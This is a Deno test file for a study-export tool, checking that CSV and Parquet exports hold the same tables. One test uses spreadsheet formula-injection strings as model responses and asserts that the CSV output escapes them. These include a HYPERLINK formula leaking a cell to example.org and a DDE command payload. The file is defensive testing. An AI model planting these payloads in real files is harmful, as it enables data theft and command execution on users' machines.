import assert from "node:assert/strict";
import { join } from "node:path";
import { Claim } from "src/records/claim.ts";
import { Fact } from "src/records/fact.ts";
import { Item } from "src/records/item.ts";
import { Judgment } from "src/records/judgment.ts";
import { Response } from "src/records/response.ts";
import { Checkpoint, Run } from "src/records/run.ts";
import { Comparison, Summary } from "src/records/summary.ts";
import { openStudy } from "src/study/open_study.ts";
import { readCsv } from "src/tables/csv.ts";
import { fromFrame } from "src/tables/frame.ts";
import { readParquet } from "src/tables/parquet.ts";
import { exportStudy } from "src/exports/export_study.ts";
import { importResponses } from "src/study/import_responses.ts";
import {
  askedTable,
  options,
  recorded,
  write,
} from "../study/import_workspace.ts";
import { exported, pilot } from "./pilot.ts";

const TABLES = {
  checkpoints: Checkpoint,
  claims: Claim,
  comparisons: Comparison,
  facts: Fact,
  items: Item,
  judgments: Judgment,
  responses: Response,
  runs: Run,
  summaries: Summary,
} as const;

Deno.test("CSV and Parquet hold the same tables, each of its record", async () => {
  const csv = await exported("csv", await pilot());
  const parquet = await exported("parquet", await pilot());
  const names = Object.keys(TABLES);
  assert.deepEqual(csv.files, names.map((name) => `${name}.csv`));
  assert.deepEqual(parquet.files, names.map((name) => `${name}.parquet`));
  for (const [name, schema] of Object.entries(TABLES)) {
    const rows = readCsv(join(csv.folder, `${name}.csv`), schema as never);
    assert.ok(rows.length > 0, name);
    assert.deepEqual(
      readParquet(join(parquet.folder, `${name}.parquet`), schema as never),
      rows,
      name,
    );
  }
});

Deno.test("the tables are those of the study", async () => {
  const { home, parts } = await pilot();
  const { folder } = await exported("parquet", { home, parts });
  const study = await openStudy("pilot", { home, parts, readonly: true });
  const { summaries, comparisons, claims } = await study.summarize();
  const at = (name: string) => join(folder, `${name}.parquet`);
  assert.deepEqual(readParquet(at("summaries"), Summary), summaries);
  assert.deepEqual(readParquet(at("comparisons"), Comparison), comparisons);
  assert.deepEqual(readParquet(at("claims"), Claim), claims);
  assert.deepEqual(readParquet(at("items"), Item), [...study.items]);
  const key = (row: Judgment) =>
    [row.request_hash, row.item_id, row.judge_id].join();
  const sorted = (rows: Judgment[]) =>
    rows.toSorted((a, b) => key(a) < key(b) ? -1 : 1);
  assert.deepEqual(
    sorted(readParquet(at("judgments"), Judgment)),
    sorted(fromFrame(await study.frame("judgments"), Judgment)),
  );
  assert.deepEqual(
    readParquet(at("responses"), Response),
    fromFrame(await study.frame("responses"), Response),
  );
  study.close();
});

Deno.test("no spreadsheet computes what a model said, and Parquet has it as it is", async () => {
  const said: [text: string, in_csv: string][] = [
    ['=HYPERLINK("http://example.org/?"&A1,"here")', "'"],
    ["+1+cmd|' /C calc'!A0", "'"],
    ["@SUM(1+1)*cmd", "'"],
    ["-2+3", "'"],
    ["\t=1+1", "'"],
    ["\r=1+1", "'"],
    ["＝1+1", "'"],
    ["- a list", "'"],
    ["-5", ""],
    ["+3.2 %", ""],
    ["-1,000", ""],
    ["'=1", ""],
    ["a=1", ""],
    ["", ""],
  ];
  const home = await recorded();
  const rows = await askedTable(home);
  said.forEach(([text], i) => rows[i]!.text = text);
  await importResponses(write(home, rows), options(home));
  const texts = async (format: "csv" | "parquet") => {
    const out = join(home, format);
    const { folder } = await exportStudy("pilot", { home, format, out });
    const path = join(folder, `responses.${format}`);
    const read = format === "csv" ? readCsv : readParquet;
    return new Map(
      read(path, Response).map(({ checkpoint_id, item_id, text }) => [
        `${checkpoint_id} ${item_id}`,
        text!,
      ]),
    );
  };
  const [csv, parquet] = [await texts("csv"), await texts("parquet")];
  assert.equal(csv.size, rows.length);
  const marks = new Map(said.map(([text, mark]) => [text, mark]));
  const seen = new Set<string>();
  for (const [key, text] of parquet) {
    assert.equal(csv.get(key), (marks.get(text) ?? "") + text);
    if (marks.has(text)) seen.add(text);
  }
  assert.equal(seen.size, said.length);
});
